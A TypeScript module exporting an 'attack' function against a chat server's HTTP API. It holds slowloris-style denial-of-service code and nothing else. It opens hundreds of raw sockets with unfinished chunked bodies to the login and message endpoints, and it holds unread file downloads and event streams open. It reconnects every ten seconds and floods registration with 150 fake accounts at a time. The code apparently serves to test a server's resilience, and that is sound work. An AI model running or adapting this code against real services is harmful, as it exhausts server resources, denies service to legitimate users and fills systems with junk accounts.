import { randomUUID } from 'node:crypto'
import { connect, type Socket } from 'node:net'

export interface Target {
  baseUrl: string
  /** The access token of the attacking member. */
  token: string
  channelId: string
  /** A file of 20 MB. */
  filename: string
}

/**
 * The time after which every connection is closed and opened again. The server may have ended it, and a client that
 * does not read does not notice this.
 */
const renewMs = 10_000

/**
 * One client tries to occupy the server all the time: with unfinished bodies, downloads and streams that it does not
 * read, and 150 registrations at once. Returns a function that stops it.
 */
export function attack({ baseUrl, token, channelId, filename }: Target): () => Promise<void> {
  const { hostname, port } = new URL(baseUrl)
  const sockets = new Set<Socket>()
  const stopped = new AbortController()

  function open(count: number, head: string, rest: string) {
    for (let n = 0; n < count; n++) {
      const socket = connect(Number(port), hostname)
      sockets.add(socket)
      socket.on('error', () => {}).on('close', () => sockets.delete(socket))
      socket.write(`${head} HTTP/1.1\r\nHost: ${hostname}\r\n${rest}`)
      socket.pause()
    }
  }
  const authorization = `Authorization: Bearer ${token}\r\n`
  const unfinished = 'Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n1\r\n{\r\n'

  function openAll() {
    for (const socket of sockets) socket.destroy()
    open(110, 'POST /auth/password-login', unfinished)
    open(140, `POST /channels/${channelId}/messages`, authorization + unfinished)
    open(140, `GET /files/${filename}`, `${authorization}\r\n`)
    open(150, 'GET /events', `${authorization}\r\n`)
  }

  const register = () =>
    fetch(`${baseUrl}/auth/register`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ email: `${randomUUID()}@example.com`, password: 'a long password' }),
      signal: stopped.signal,
    }).then((reply) => reply.arrayBuffer())

  let registering: Promise<unknown> = Promise.resolve()
  function begin() {
    openAll()
    registering = Promise.allSettled(Array.from({ length: 150 }, register))
  }
  begin()
  const timer = setInterval(begin, renewMs)
  return async () => {
    clearInterval(timer)
    stopped.abort()
    for (const socket of sockets) socket.destroy()
    await registering
  }
}
